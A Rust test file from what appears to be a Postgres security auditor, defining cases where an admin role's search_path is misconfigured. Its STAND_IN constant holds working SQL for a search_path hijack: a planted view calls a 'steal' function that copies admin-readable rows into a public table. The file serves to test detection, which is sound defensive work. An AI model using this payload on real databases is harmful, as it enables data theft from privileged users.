//! Cases of the admin role's search path.

use cupel_tenant::Severity;

use super::stage::Who::{A, Admin};
use super::stage::{CASE, Case, Outcome, play};

/// A view that stands in for the table, and whose function copies what the admin role may read.
const STAND_IN: &str = "CREATE TABLE {bait}.bag (note text); GRANT INSERT ON {bait}.bag TO PUBLIC;
    CREATE FUNCTION {bait}.steal() RETURNS text LANGUAGE plpgsql AS
      $$ BEGIN INSERT INTO {bait}.bag SELECT note FROM public.items; RETURN ''; END $$;
    CREATE VIEW {bait}.items AS SELECT {bait}.steal() AS note;
    GRANT USAGE ON SCHEMA {bait} TO PUBLIC; GRANT SELECT ON {bait}.items TO PUBLIC";

pub(super) const PATHS: &[Case] = &[
    Case {
        rule: "A2",
        severity: Severity::High,
        object: "",
        broken: "{admin}
            CREATE SCHEMA s; GRANT ALL ON SCHEMA s TO {app}; GRANT USAGE ON SCHEMA s TO {adm};
            ALTER ROLE {adm} SET search_path = s, public",
        near: "{admin}
            CREATE SCHEMA s; GRANT ALL ON SCHEMA s TO {app}; ALTER ROLE {adm} SET search_path = s, public",
        attack: &[(A, STAND_IN), (Admin, "SELECT note FROM items"), (A, "SELECT note FROM s.bag")],
        bait: "s",
        ..CASE
    },
    // What a role has for the database comes before what it has everywhere.
    Case {
        rule: "A2",
        severity: Severity::High,
        object: "",
        broken: "{admin}
            CREATE SCHEMA s; GRANT ALL ON SCHEMA s TO {app}, {adm}; ALTER ROLE {adm} SET search_path = public;
            DO $$ BEGIN EXECUTE format('ALTER ROLE {adm} IN DATABASE %I SET search_path = s, public', current_database()); END $$",
        near: "{admin}
            CREATE SCHEMA s; GRANT ALL ON SCHEMA s TO {app}, {adm}; ALTER ROLE {adm} SET search_path = s, public;
            DO $$ BEGIN EXECUTE format('ALTER ROLE {adm} IN DATABASE %I SET search_path = public', current_database()); END $$",
        attack: &[(A, STAND_IN), (Admin, "SELECT note FROM items"), (A, "SELECT note FROM s.bag")],
        bait: "s",
        ..CASE
    },
    // A schema of the role's own name comes first, and whoever may can make it.
    Case {
        rule: "A2",
        severity: Severity::High,
        object: "",
        broken: "{admin}
            DO $$ BEGIN EXECUTE format('GRANT CREATE ON DATABASE %I TO {app}', current_database()); END $$",
        near: "{admin}
            DO $$ BEGIN EXECUTE format('GRANT CREATE ON DATABASE %I TO {app}', current_database()); END $$;
            ALTER ROLE {adm} SET search_path = public",
        attack: &[
            (A, "CREATE SCHEMA {bait}"),
            (A, STAND_IN),
            (Admin, "SELECT note FROM items"),
            (A, "SELECT note FROM {bait}.bag"),
        ],
        bait: "{adm}",
        ..CASE
    },
];

#[tokio::test]
async fn audit_of_the_admin_role_s_search_path() -> Outcome<()> {
    play(PATHS).await
}
